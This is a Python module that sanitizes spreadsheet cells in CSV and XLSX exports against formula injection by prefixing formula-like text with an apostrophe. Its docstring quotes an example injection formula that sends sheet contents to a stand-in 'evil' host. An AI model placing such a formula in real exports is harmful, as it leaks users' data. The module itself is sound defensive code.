"""Spreadsheet cells as every export writes them: text a user typed never becomes a live formula.

A grid, building or room name is typed by a lead (on a form or in an imported roster). Excel, WPS and
LibreOffice run a cell that starts with = + - @ (or a tab or carriage return, which they strip first)
as a formula: `=HYPERLINK("http://evil/?"&A1, "click")` in a name would leak the sheet or run a
command on the reader's machine. OWASP's rule: such a text cell gets a leading `'`, which shows the
text as it was typed; numbers, dates and empty cells stay what they are.

Every writer of a spreadsheet cell goes through here: the CSV writer, the openpyxl workbooks (weekly
report, roster template) and the hand-streamed XLSX (`xlsx.py`). A test checks that no other module
opens a csv writer or an openpyxl workbook of its own.
"""

import csv
import io
import unicodedata
from collections.abc import Iterable
from datetime import date, datetime

from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

#: Written first, so that Excel opens a UTF-8 CSV as UTF-8.
BOM = "\ufeff"

#: What makes a spreadsheet read text as a formula; full-width forms too (a Chinese keyboard types them).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value):
    """The value as a spreadsheet must hold it: text starting like a formula gets a leading "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


class CsvWriter:
    """csv.writer whose rows go through `safe_cell` first."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream) -> CsvWriter:
    return CsvWriter(stream)


#: Column widths in Excel's units (about one Latin character each): never narrower than a short number,
#: never wider than a long name (longer text is cut on screen, not lost).
MIN_WIDTH, MAX_WIDTH = 6, 50


def display_width(value) -> int:
    """How many Latin characters wide a cell's value shows: a Chinese character (or a full-width one) takes two."""
    if value is None:
        return 0
    if isinstance(value, datetime):
        return 20  # yyyy-mm-dd hh:mm:ss, and a little more: digits are wider than "0" in some fonts
    if isinstance(value, date):
        return 10
    text = value if isinstance(value, str) else str(value)
    if text.isascii():
        return len(text)
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text)


def column_widths(rows: Iterable[Iterable]) -> list[float]:
    """The width of each column that fits the widest of these rows (plus a margin), within MIN/MAX_WIDTH."""
    widest: list[int] = []
    for row in rows:
        for index, value in enumerate(row):
            width = display_width(value)
            if index == len(widest):
                widest.append(width)
            elif width > widest[index]:
                widest[index] = width
    return [min(MAX_WIDTH, max(MIN_WIDTH, width + 2)) for width in widest]


def workbook_bytes(sheets: Iterable[tuple]) -> bytes:
    """An XLSX of (title, rows, indexes of the rows in bold[, index of the header row]) per sheet.

    Every cell goes through `safe_cell`. The header row (when not given: the first bold row, else the
    first row; the weekly report's is bold below its title) stays in view when scrolling, and each column
    is as wide as its content from the header down: a title above the header would otherwise make the
    first column as wide as the title.
    """
    book = Workbook()
    book.remove(book.active)
    bold = Font(bold=True)
    for title, rows, bold_rows, *header in sheets:
        header_row = header[0] if header else min(bold_rows, default=0)
        sheet = book.create_sheet(title)
        rows = [safe_row(row) for row in rows]
        for index, row in enumerate(rows):
            sheet.append(row)
            if index in bold_rows:
                for cell in sheet[sheet.max_row]:
                    cell.font = bold
        for index, width in enumerate(column_widths(rows[header_row:])):
            sheet.column_dimensions[get_column_letter(index + 1)].width = width
        sheet.freeze_panes = f"A{header_row + 2}"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """A whole CSV file as Excel opens it right (UTF-8 with BOM), each cell made safe."""
    buffer = io.StringIO()
    buffer.write(BOM)
    csv_writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")
